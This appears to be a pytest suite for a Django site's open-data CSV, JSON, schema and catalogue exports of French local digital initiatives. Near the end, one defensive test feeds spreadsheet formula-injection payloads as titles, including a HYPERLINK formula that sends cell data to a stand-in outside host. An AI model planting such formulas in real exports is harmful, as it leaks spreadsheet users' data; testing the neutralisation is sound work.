import csv
import io
import json
import math

import frictionless
import pytest
from django.db import OperationalError, connection
from django.urls import reverse
from django.utils import timezone

from initiatives.models import Category, Collectivity, Initiative
from initiatives.opendata import streams
from initiatives.opendata.columns import INITIATIVE_COLUMNS
from tests.factories import InitiativeFactory

pytestmark = pytest.mark.django_db


def download(client, name, **params):
    response = client.get(reverse(f"initiatives:{name}"), params)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content).decode("utf-8")


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_stable_snake_case_columns(client):
    response, text = download(client, "data_initiatives_csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="initiatives.csv"' in response["Content-Disposition"]
    header = text.splitlines()[0].split(",")
    assert header == [column.name for column in INITIATIVE_COLUMNS]
    assert all(name == name.lower() and " " not in name for name in header)


def test_csv_lines_quote_as_the_csv_module_does():
    cells = [
        "plain",
        "",
        None,
        42,
        "a, b",
        'say "hi"',
        '"',
        "line\nbreak",
        "carriage\rreturn",
        'both\r\n, and "quotes"',
        " spaces ",
        "accentué, «guillemets»",
        "|;\t",
    ]
    rows = [cells, list(reversed(cells))]
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerows(rows)
    assert streams.csv_lines(rows) == expected.getvalue()


def test_csv_rows_keep_codes_as_text_and_dates_in_iso_8601(client):
    _, text = download(client, "data_initiatives_csv", department="2A")
    (ajaccio,) = read_csv(text)
    assert ajaccio["collectivity_code"] == "2A004"
    assert ajaccio["department_code"] == "2A"
    published = Initiative.objects.get(slug=ajaccio["slug"]).published_at
    assert timezone.datetime.fromisoformat(ajaccio["published_at"]) == published
    assert ajaccio["is_featured"] == "false"


def test_csv_joins_lists_with_the_documented_separator(client):
    _, text = download(client, "data_initiatives_csv", q="Saumur en action")
    (saumur,) = read_csv(text)
    assert saumur["themes"].split("|") == ["lien-de-proximite", "solidarite-numerique"]


def test_csv_exports_exactly_the_filtered_list(client):
    _, text = download(client, "data_initiatives_csv", department="13")
    slugs = {row["slug"] for row in read_csv(text)}
    expected = Initiative.objects.published().filter(
        collectivity__department__code="13"
    )
    assert slugs == set(expected.values_list("slug", flat=True))


def test_csv_with_invalid_filter_is_a_400_naming_it(client):
    response = client.get(reverse("initiatives:data_initiatives_csv"), {"label": "x"})
    assert response.status_code == 400
    assert "Label Villes Internet" in response.content.decode()


def test_large_export_is_streamed(client):
    town = Collectivity.objects.get(code="13056")
    category = Category.objects.first()
    now = timezone.now()
    Initiative.objects.bulk_create(
        Initiative(
            title=f"Action {n}",
            slug=f"action-{n}",
            collectivity=town,
            category=category,
            summary="Résumé",
            description="Description",
            status=Initiative.Status.PUBLISHED,
            published_at=now,
        )
        for n in range(10_000)
    )
    response = client.get(reverse("initiatives:data_initiatives_csv"))
    assert response.streaming
    chunks = list(response.streaming_content)
    rows = read_csv(b"".join(chunks).decode())
    assert len(rows) == Initiative.objects.published().count() >= 10_000
    # CHUNK_ROWS rows at a time, the header with the first ones.
    assert len(chunks) == math.ceil(len(rows) / streams.CHUNK_ROWS)


@pytest.mark.parametrize("extra_rows", [0, 25])
def test_export_queries_are_fixed_per_chunk(
    client, django_assert_num_queries, monkeypatch, extra_rows
):
    monkeypatch.setattr(streams, "CHUNK_ROWS", 10)
    InitiativeFactory.create_batch(extra_rows, published=True)
    chunks = math.ceil(Initiative.objects.published().count() / 10)
    # The rows, read through one cursor. PostgreSQL gathers each row's themes and
    # vigilance points in that query; SQLite reads them per chunk: two queries.
    queries = 1 if connection.vendor == "postgresql" else 1 + 2 * chunks
    with django_assert_num_queries(queries):
        download(client, "data_initiatives_csv")
    with django_assert_num_queries(queries):
        download(client, "data_initiatives_json")


def test_csv_cells_match_the_models(client):
    """The cells come from flat rows and per-download URL prefixes: they must
    say what the model instances say."""
    pictured = Initiative.objects.published().first()
    Initiative.objects.filter(pk=pictured.pk).update(
        image="initiatives/photo été.jpg", image_alt="Une photo, « belle »"
    )
    _, text = download(client, "data_initiatives_csv")
    rows = {row["slug"]: row for row in read_csv(text)}
    published = Initiative.objects.published().for_detail()
    assert set(rows) == {initiative.slug for initiative in published}
    for initiative in published:
        row = rows[initiative.slug]
        assert row["page_url"] == "http://testserver" + initiative.get_absolute_url()
        assert row["themes"] == "|".join(t.slug for t in initiative.themes.all())
        assert row["vigilance_points"] == "|".join(
            p.slug for p in initiative.vigilance_points.all()
        )
        assert row["region_name"] == initiative.collectivity.department.region.name
        assert row["published_at"] == initiative.published_at.isoformat()
        assert row["started_on"] == (
            initiative.started_on.isoformat() if initiative.started_on else ""
        )
        assert row["is_featured"] == ("true" if initiative.is_featured else "false")
        assert row["image_url"] == (
            "http://testserver" + initiative.image.url if initiative.image else ""
        )
    assert rows[pictured.slug]["image_url"].endswith("/photo%20%C3%A9t%C3%A9.jpg")


def test_theme_filter_keeps_every_theme_of_a_row(client):
    _, text = download(client, "data_initiatives_csv", theme="solidarite-numerique")
    rows = read_csv(text)
    assert any("|" in row["themes"] for row in rows)
    for row in rows:
        initiative = Initiative.objects.get(slug=row["slug"])
        themes = [theme.slug for theme in initiative.themes.all()]
        assert row["themes"].split("|") == themes
        assert "solidarite-numerique" in themes


def test_empty_selection_gives_the_header_or_an_empty_array(client):
    _, text = download(client, "data_initiatives_csv", q="zzzzzz")
    assert text == ",".join(column.name for column in INITIATIVE_COLUMNS) + "\r\n"
    _, text = download(client, "data_initiatives_json", q="zzzzzz")
    assert text == "[\n]\n"


def validate(text, schema, folder):
    """Validate a CSV text against a Table Schema with frictionless."""
    (folder / "data.csv").write_text(text, encoding="utf-8")
    resource = frictionless.Resource(
        path="data.csv",
        basepath=str(folder),
        schema=frictionless.Schema.from_descriptor(schema),
    )
    report = resource.validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    return report


def test_csv_validates_against_its_table_schema(client, tmp_path):
    _, text = download(client, "data_initiatives_csv")
    schema = client.get(reverse("initiatives:data_initiatives_schema")).json()
    report = validate(text, schema, tmp_path)
    assert report.tasks[0].stats["rows"] == Initiative.objects.published().count()


def test_collectivities_csv_validates_too(client, tmp_path):
    _, text = download(client, "data_collectivities_csv")
    rows = read_csv(text)
    assert {row["code"] for row in rows} >= {"13056", "97101", "248900334"}
    schema = client.get(reverse("initiatives:data_collectivities_schema")).json()
    validate(text, schema, tmp_path)


def as_csv_cell(value):
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "|".join(value)
    return str(value)


def test_json_downloads_mirror_the_csv(client):
    _, text = download(client, "data_initiatives_json", department="62")
    items = json.loads(text)
    _, csv_text = download(client, "data_initiatives_csv", department="62")
    rows = read_csv(csv_text)
    assert [i["slug"] for i in items] == [r["slug"] for r in rows]
    for item, row in zip(items, rows, strict=True):
        assert {name: as_csv_cell(value) for name, value in item.items()} == row
    assert isinstance(items[0]["themes"], list)
    assert isinstance(items[0]["is_featured"], bool)
    assert items[0]["collectivity_code"].isdigit()
    _, text = download(client, "data_collectivities_json")
    assert {c["code"] for c in json.loads(text)} >= {"2A004"}


def test_schema_describes_every_column(client):
    schema = client.get(reverse("initiatives:data_initiatives_schema")).json()
    assert [f["name"] for f in schema["fields"]] == [c.name for c in INITIATIVE_COLUMNS]
    assert all(f["description"] for f in schema["fields"])
    assert schema["licenses"][0]["name"] == "etalab-2.0"


@pytest.mark.parametrize(
    ("route", "name", "choices"),
    [
        ("data_initiatives_schema", "collectivity_kind", Collectivity.Kind),
        ("data_initiatives_schema", "period", Initiative.Period),
        ("data_initiatives_schema", "outcome", Initiative.Outcome),
        ("data_collectivities_schema", "kind", Collectivity.Kind),
    ],
)
def test_schema_reads_each_enum_from_the_model(client, route, name, choices):
    schema = client.get(reverse(f"initiatives:{route}")).json()
    (described,) = [f for f in schema["fields"] if f["name"] == name]
    assert described["constraints"]["enum"] == choices.values
    for value, label in choices.choices:
        assert value in described["description"]
        assert label in described["description"]


def test_readme_documents_the_fields(client):
    text = client.get(reverse("initiatives:data_readme")).content.decode()
    for column in INITIATIVE_COLUMNS:
        assert f"`{column.name}`" in text
    assert "Licence Ouverte" in text


def test_open_data_page_states_licence_attribution_and_update(client):
    response = client.get(reverse("initiatives:data"))
    text = response.text
    assert "Licence Ouverte / Open Licence 2.0" in text
    assert "Attribution à indiquer" in text and "Dernière mise à jour" in text
    assert reverse("initiatives:data_catalogue") in text


def test_dcat_catalogue_lists_datasets_and_distributions(client):
    response = client.get(reverse("initiatives:data_catalogue"))
    assert response["Content-Type"] == "application/ld+json"
    catalogue = response.json()
    assert catalogue["@type"] == "dcat:Catalog"
    datasets = catalogue["dcat:dataset"]
    assert len(datasets) == 2
    urls = {
        d["dcat:downloadURL"]["@id"] for ds in datasets for d in ds["dcat:distribution"]
    }
    assert "http://testserver/donnees/initiatives.csv" in urls
    assert all(
        ds["dct:license"]["@id"].startswith("https://www.etalab") for ds in datasets
    )


def test_list_page_offers_the_csv_of_its_selection(client):
    response = client.get(reverse("initiatives:list"), {"department": "13"})
    assert "/donnees/initiatives.csv?department=13" in response.text
    assert "Télécharger (CSV)" in response.text


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://exemple.org/?"&A1,"Cliquez")',
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_never_run_as_spreadsheet_formulas(client, title):
    initiative = InitiativeFactory(title=title, summary=title, published=True)
    response = client.get(reverse("initiatives:data_initiatives_csv"))
    text = b"".join(response.streaming_content).decode()
    row = next(r for r in read_csv(text) if r["slug"] == initiative.slug)
    assert row["title"] == "'" + title
    assert row["summary"] == "'" + title
    # JSON and the API give the text as it is.
    response = client.get(reverse("initiatives:data_initiatives_json"))
    data = json.loads(b"".join(response.streaming_content))
    assert next(r for r in data if r["slug"] == initiative.slug)["title"] == title


def test_the_schema_and_readme_say_how_formulas_are_neutralised(client):
    schema = client.get(reverse("initiatives:data_initiatives_schema")).json()
    readme = client.get(reverse("initiatives:data_readme")).content.decode()
    for text in (schema["description"], readme):
        assert "apostrophe" in text and "formule" in text


def test_an_export_checks_the_database_before_its_first_byte(client, monkeypatch):
    def unreachable(*args, **kwargs):
        raise OperationalError("connection refused")
        yield

    monkeypatch.setattr(streams, "rows", unreachable)
    client.raise_request_exception = False
    for route in ("data_initiatives_csv", "data_initiatives_json"):
        response = client.get(reverse(f"initiatives:{route}"))
        assert response.status_code == 503
        assert response["Retry-After"] == "30"
        assert not response.streaming
